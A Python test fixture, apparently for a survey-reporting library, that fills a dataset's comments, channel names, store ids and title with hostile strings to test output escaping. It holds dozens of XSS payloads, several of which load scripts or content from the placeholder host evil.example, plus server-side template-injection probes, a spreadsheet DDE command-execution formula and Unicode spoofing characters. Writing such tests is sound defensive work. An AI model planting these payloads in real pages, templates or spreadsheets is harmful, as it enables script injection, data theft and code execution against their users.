"""Texts that would like to be more than text: in comments, names of channels and stores, and in the title."""

from dataclasses import replace

import pandas as pd

import cxlib as cx

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "</script><script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    '"><img src=x onerror="window.__xss=1">',
    "<img/src=x/onerror=window.__xss=1>",
    "<img src=https://evil.example/pixel.png>",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus='",
    '" style="position:fixed;inset:0" x="',
    "<body onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><a xlink:href=javascript:window.__xss=1><text>x</text></a></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data=javascript:window.__xss=1></object>",
    "<embed src=javascript:window.__xss=1>",
    "<a href=javascript:window.__xss=1>click</a>",
    "<a href='&#106;avascript:window.__xss=1'>click</a>",
    "<form action=https://evil.example><input name=q autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "</style><style>@import url(https://evil.example/x.css)</style>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</main></body></html><script>window.__xss=1</script>",
    "<!-- --><script>window.__xss=1</script><!--",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<template><script>window.__xss=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
    "<dialog open>phish</dialog>",
    "[click](javascript:window.__xss=1)",
    "![x](https://evil.example/pixel.png)",
    "[x]: javascript:window.__xss=1",
    "<https://evil.example>",
    "`<script>window.__xss=1</script>`",
    "# A heading of my own",
    "| a | b |\n|---|---|",
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=1&#62;",
    "&quot;&gt;&lt;svg onload=window.__xss=1&gt;",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{# comment #}{{ nb }}",
    "{metric} {0.__class__} %s %(x)s ${HOME} #{7*7}",
    "$\\frac{",
    "$$x^2$$ \\(y\\) \\[z\\] \\input{x}",
    "$\\href{javascript:window.__xss=1}{x}$",
    "=1+1",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "\u202egnp.exe\u202c over and \u2066back\u2069",
    "zero\u200bwidth\u200d\ufeffjoined\u00ad",
    "Z\u0351\u036b\u0343a\u0309\u0306l\u030d\u0321g\u0317\u0353o" + "\u0335" * 60,
    "null \x07 bell \x1b[31mred",
    "W" * 900,
    "mail ana@example.com or (11) 98765-4321",
    "<a\u2028href=x\u2029>",
    "＜script＞window.__xss=1＜/script＞",
    "a\tb",
]  # fmt: skip
BANDS = {"nps": (2, 8, 10), "csat": (1, 3, 5), "ces": (2, 4, 7)}
SHOWN, ROWS = 5, 260


def shop(title="</title><script>window.__xss=1</script>"):
    """Return a company all of whose names and comments are hostile, each payload standing where a report shows it."""
    rows = []
    places = [(kind, score) for kind, scores in BANDS.items() for score in scores]
    comments = PAYLOADS[: len(places) * SHOWN]
    groups = [text for text in PAYLOADS if text not in comments] + PAYLOADS
    for place, (kind, score) in enumerate(places):
        for n in range(ROWS):
            newest = n >= ROWS - SHOWN
            comment = comments[(place * SHOWN + n - ROWS + SHOWN) % len(comments)] if newest else None
            rows.append((kind, score, comment, groups[24 + n % 24], groups[n % 24]))
    frame = pd.DataFrame(rows, columns=["type", "score", "comment", "channel", "store_id"])
    frame.insert(0, "response_id", [f"r{n:05}" for n in range(len(frame))])
    frame["answered_at"] = [
        pd.Timestamp("2025-01-01", tz="UTC") + pd.Timedelta(hours=5 * (n % ROWS)) for n in frame.index
    ]
    stores = pd.DataFrame({"store_id": frame["store_id"].unique()})
    dataset = cx.open_dataset({"survey_responses": frame, "stores": stores})
    return replace(dataset, title=title)
